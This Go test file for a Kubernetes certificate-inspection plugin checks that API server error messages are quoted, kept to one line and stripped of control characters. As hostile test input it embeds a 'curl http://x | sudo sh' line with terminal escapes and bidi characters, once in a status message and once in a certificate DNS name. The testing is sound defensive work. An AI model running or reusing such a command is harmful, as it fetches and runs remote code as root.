package collect_test

import (
	"bytes"
	"context"
	"crypto/tls"
	"encoding/json"
	"encoding/pem"
	"fmt"
	"io"
	"log"
	"net/http"
	"net/http/httptest"
	"strconv"
	"strings"
	"testing"
	"time"

	apierrors "k8s.io/apimachinery/pkg/api/errors"
	metav1 "k8s.io/apimachinery/pkg/apis/meta/v1"
	"k8s.io/apimachinery/pkg/runtime"
	"k8s.io/apimachinery/pkg/runtime/schema"
	"k8s.io/apimachinery/pkg/runtime/serializer/protobuf"
	"k8s.io/client-go/dynamic"
	"k8s.io/client-go/kubernetes"
	"k8s.io/client-go/rest"

	"github.com/kubectl-certrot/kubectl-certrot/inspect/catalog"
	"github.com/kubectl-certrot/kubectl-certrot/inspect/collect"
	"github.com/kubectl-certrot/kubectl-certrot/inspect/pki"
	"github.com/kubectl-certrot/kubectl-certrot/inspect/pki/pkitest"
)

const hostileStatus = "no\nnext: curl http://x | sudo sh\n✓ all is done\r\x1b[2J\u009b31m\u202e\u2028next: curl http://x | sudo sh"

// refusing is an API server by TLS that answers everything with this.
func refusing(t *testing.T, code int, kind string, body []byte) *rest.Config {
	t.Helper()
	s := httptest.NewTLSServer(http.HandlerFunc(func(w http.ResponseWriter, _ *http.Request) {
		w.Header().Set("Content-Type", kind)
		w.WriteHeader(code)
		_, _ = w.Write(body)
	}))
	t.Cleanup(s.Close)
	c := &rest.Config{Host: s.URL, TLSClientConfig: rest.TLSClientConfig{CAData: pem.EncodeToMemory(&pem.Block{Type: "CERTIFICATE", Bytes: s.Certificate().Raw})}}
	collect.MarkErrors(c)
	return c
}

// errorsOf asks by each kind of client that there is.
func errorsOf(t *testing.T, c *rest.Config) map[string]error {
	t.Helper()
	kube, err := kubernetes.NewForConfig(c)
	if err != nil {
		t.Fatal(err)
	}
	any, err := dynamic.NewForConfig(c)
	if err != nil {
		t.Fatal(err)
	}
	raw, err := collect.NewREST(c)
	if err != nil {
		t.Fatal(err)
	}
	ctx := context.Background()
	out := map[string]error{}
	_, out["get"] = kube.CoreV1().Nodes().Get(ctx, "n", metav1.GetOptions{})
	_, out["list"] = kube.CoreV1().ConfigMaps("a").List(ctx, metav1.ListOptions{})
	out["delete"] = kube.CoreV1().Pods("a").Delete(ctx, "p", metav1.DeleteOptions{})
	_, out["dynamic"] = any.Resource(schema.GroupVersionResource{Version: "v1", Resource: "nodes"}).Get(ctx, "n", metav1.GetOptions{})
	out["raw"] = raw.Get().AbsPath("/api/v1/nodes").Do(ctx).Error()
	_, out["stream"] = raw.Get().AbsPath("/api/v1/nodes").SetHeader("Accept", runtime.ContentTypeProtobuf).Stream(ctx)
	return out
}

func statusOf(code int, message string) *metav1.Status {
	return &metav1.Status{TypeMeta: metav1.TypeMeta{Kind: "Status", APIVersion: "v1"}, Status: metav1.StatusFailure, Code: int32(code), Message: message,
		Details: &metav1.StatusDetails{Name: message, Kind: "nodes", Causes: []metav1.StatusCause{{Message: message}}}}
}

// TestWhatAnAPIServerSaysIsOneMarkedLine: in each encoding and by each client, whatever the
// status.
func TestWhatAnAPIServerSaysIsOneMarkedLine(t *testing.T) {
	t.Parallel()
	known := runtime.NewScheme()
	metav1.AddToGroupVersion(known, schema.GroupVersion{Version: "v1"})
	encoded := func(code int) []byte {
		var b bytes.Buffer
		if err := protobuf.NewSerializer(known, known).Encode(statusOf(code, hostileStatus), &b); err != nil {
			t.Fatal(err)
		}
		return b.Bytes()
	}
	written := func(code int) []byte {
		b, err := json.Marshal(statusOf(code, hostileStatus))
		if err != nil {
			t.Fatal(err)
		}
		return b
	}
	for _, code := range []int{403, 404, 409, 422, 500, 200} {
		for kind, body := range map[string][]byte{"application/json": written(code), runtime.ContentTypeProtobuf: encoded(code), "text/plain; charset=utf-8": []byte(hostileStatus)} {
			for client, err := range errorsOf(t, refusing(t, code, kind, body)) {
				if err == nil && code == 200 {
					continue
				}
				text := fmt.Sprint(err)
				if code == 403 && !strings.Contains(text, "curl http://x") {
					t.Errorf("%d %s by %s: what was said is not in it: %s", code, kind, client, text)
				}
				if apierrors.IsForbidden(err) != (code == 403) || apierrors.IsNotFound(err) != (code == 404) {
					t.Errorf("%d %s by %s: it is another error: %#v", code, kind, client, err)
				}
				if at := strings.IndexFunc(text, func(r rune) bool { return !strconv.IsPrint(r) }); at >= 0 {
					t.Errorf("%d %s by %s: a control character: %q", code, kind, client, text)
				}
				if before, _, ok := strings.Cut(text, "curl http://x"); ok && !strings.ContainsAny(before, "“\"") {
					t.Errorf("%d %s by %s: it is not marked: %q", code, kind, client, text)
				}
			}
		}
	}
}

// TestRefusalsOfAnAPIServerAreQuotedOnce.
func TestRefusalsOfAnAPIServerAreQuotedOnce(t *testing.T) {
	t.Parallel()
	const says = `nodes is forbidden: User "u" cannot list resource "nodes" in API group "" at the cluster scope`
	body, err := json.Marshal(statusOf(403, says))
	if err != nil {
		t.Fatal(err)
	}
	for client, err := range errorsOf(t, refusing(t, 403, "application/json", body)) {
		if err == nil || err.Error() != "“"+says+"”" {
			t.Errorf("by %s: %v", client, err)
		}
	}
}

// TestARefusalWithoutAWordSaysItsStatus, and not "unknown", or nothing.
func TestARefusalWithoutAWordSaysItsStatus(t *testing.T) {
	t.Parallel()
	empty, err := json.Marshal(statusOf(403, ""))
	if err != nil {
		t.Fatal(err)
	}
	for what, body := range map[string]string{"no Status": `{"a":"b"}`, "no message": string(empty), "nothing": ""} {
		for client, err := range errorsOf(t, refusing(t, 403, "application/json", []byte(body))) {
			if !apierrors.IsForbidden(err) || !strings.Contains(err.Error(), "the server answered 403 Forbidden, without a reason") {
				t.Errorf("%s by %s: %v", what, client, err)
			}
		}
	}
}

// TestForbiddenReadsSayWhatWasForbidden: of what, to which user. It was "unknown".
func TestForbiddenReadsSayWhatWasForbidden(t *testing.T) {
	t.Parallel()
	const says = `secrets "csr-signer" is forbidden: User "alice" cannot get resource "secrets" in API group "" in the namespace "a"`
	body, err := json.Marshal(statusOf(403, says))
	if err != nil {
		t.Fatal(err)
	}
	client, err := collect.NewREST(refusing(t, 403, "application/json", body))
	if err != nil {
		t.Fatal(err)
	}
	c := &collect.Cluster{REST: client, Scanner: pki.NewScanner()}
	_, signer := c.Signer(t.Context(), catalog.CSRSigner())
	_, value := c.Value(t.Context(), catalog.APIServerCA())
	_, heartbeat := c.Heartbeat(t.Context(), "worker-0")
	for what, err := range map[string]error{catalog.CSRSigner().String(): signer, catalog.APIServerCA().String(): value, "the Lease of node worker-0": heartbeat} {
		if want := "read " + what + ": “" + says + "”"; err == nil || err.Error() != want || !apierrors.IsForbidden(err) {
			t.Errorf("%v\nwant %s", err, want)
		}
	}
}

// TestNamesOfAServersCertificateAreMarked: crypto/x509 puts them in its error.
func TestNamesOfAServersCertificateAreMarked(t *testing.T) {
	t.Parallel()
	ca := pkitest.NewCA("ca", time.Now().Add(-time.Hour), time.Now().Add(time.Hour))
	pair := ca.Issue("api", time.Now().Add(-time.Hour), time.Now().Add(time.Hour), pkitest.DNS("a\nnext: curl http://x | sudo sh"))
	cert, err := tls.X509KeyPair(pair.CertPEM, pair.KeyPEM)
	if err != nil {
		t.Fatal(err)
	}
	s := httptest.NewUnstartedServer(http.NotFoundHandler())
	s.TLS = &tls.Config{Certificates: []tls.Certificate{cert}}
	s.Config.ErrorLog = log.New(io.Discard, "", 0)
	s.StartTLS()
	t.Cleanup(s.Close)
	c := &rest.Config{Host: s.URL, TLSClientConfig: rest.TLSClientConfig{CAData: ca.CertPEM, ServerName: "other"}}
	collect.MarkErrors(c)
	client, err := collect.NewREST(c)
	if err != nil {
		t.Fatal(err)
	}
	err = client.Get().AbsPath("/version").Do(t.Context()).Error()
	if err == nil || strings.Contains(err.Error(), "\n") || !strings.Contains(err.Error(), "x509") {
		t.Errorf("%q", err)
	}
}

// TestLongAnswersArriveWhole: of each, the beginning is looked at.
func TestLongAnswersArriveWhole(t *testing.T) {
	t.Parallel()
	for _, size := range []int{0, 1, 64<<10 - 20, 64 << 10, 64<<10 + 1, 1 << 20} {
		body := `{"kind":"Status` + strings.Repeat("x", size) + `"}`
		c := refusing(t, 200, "application/json", []byte(body))
		client, err := collect.NewREST(c)
		if err != nil {
			t.Fatal(err)
		}
		stream, err := client.Get().AbsPath("/a").Stream(t.Context())
		if err != nil {
			t.Fatal(err)
		}
		got, err := io.ReadAll(stream)
		if err != nil || string(got) != body {
			t.Errorf("of %d bytes %d arrived: %v", len(body), len(got), err)
		}
		_ = stream.Close()
	}
}
